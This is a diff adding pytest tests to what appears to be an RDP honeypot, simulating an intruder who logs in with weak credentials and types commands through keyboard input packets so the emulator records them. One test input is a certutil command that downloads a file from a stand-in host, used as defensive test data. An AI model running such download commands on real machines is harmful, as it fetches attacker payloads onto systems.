@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+import struct
 
 import pytest
 
@@ -80,6 +81,57 @@ def test_without_credentials_first_the_password_comes(protocols: int | None, can
     assert table.over
     assert LoginTried("CORP\\admin", "P@ss", accepted=False) in table.facts
     assert CommandEntered("cmd.exe") in table.facts
+
+
+def at_the_desk() -> Table:
+    """Somebody who is let in."""
+    table = talk()
+    table.say(request())
+    channels(table)
+    table.say(send(FIRST_CHANNEL, info("", "Administrator", "123456")))
+    assert LoginTried("Administrator", "123456", accepted=True) in table.facts
+    assert not table.over
+    return table
+
+
+def fast(*events: bytes) -> bytes:
+    """A fast-path PDU, 2.2.8.1.2."""
+    body = b"".join(events)
+    return bytes((len(events) << 2, 2 + len(body))) + body
+
+
+def tap(code: int, *, extended: bool = False) -> bytes:
+    return fast(bytes((2 * extended, code)), bytes((1 + 2 * extended, code)))
+
+
+WINDOWS_R = fast(b"\x02\x5b") + tap(0x13) + fast(b"\x03\x5b")
+ENTER = tap(0x1C)
+
+
+@pytest.mark.parametrize("split", [0, 1])
+def test_who_is_let_in_types(split: int) -> None:
+    table = at_the_desk()
+    before = len(table.facts)
+    cmd = tap(0x2E) + tap(0x32) + tap(0x20) + tap(0x1E) + tap(0x0E)
+    table.say(WINDOWS_R + cmd + ENTER, split)
+    characters = (bytes((0x80,)) + ord(c).to_bytes(2, "little") for c in "certutil -urlcache -f http://192.0.2.9/b b")
+    table.say(b"".join(fast(one) for one in characters) + ENTER, split)
+    shifted = fast(b"\0\x2a") + tap(0x02) + tap(0x1E) + fast(b"\1\x2a") + tap(0x1E)
+    table.say(fast(b"\x20" + bytes(6), b"\x60") + shifted + tap(0x48, extended=True) + ENTER, split)
+    table.end()
+    assert [fact.line for fact in table.facts[before:] if isinstance(fact, CommandEntered)] == [
+        "cmd", "certutil -urlcache -f http://192.0.2.9/b b", "!Aa<Up>",
+    ]  # fmt: skip
+    assert [wish.download.url for wish in table.wishes] == ["http://192.0.2.9/b"]
+
+
+def test_an_old_client_types() -> None:
+    table = at_the_desk()
+    keys = ((4, 0, 0x17), (4, 0x8000, 0x17), (5, 0, ord("d")), (5, 0, 0x20AC), (0x8001, 0, 9), (4, 0x100, 0x1C))
+    events = b"".join(struct.pack("<IHHHH", 0, kind, flags, code, 0) for kind, flags, code in keys)
+    share = struct.pack("<IBBHBBH", 0x103EA, 0, 1, 0, 28, 0, 0) + struct.pack("<HH", len(keys), 0) + events
+    table.say(send(FIRST_CHANNEL, struct.pack("<HHH", 0, 0x17, 44) + share))
+    assert CommandEntered("id€") in table.facts
 
 
 def test_an_old_clients_info() -> None:
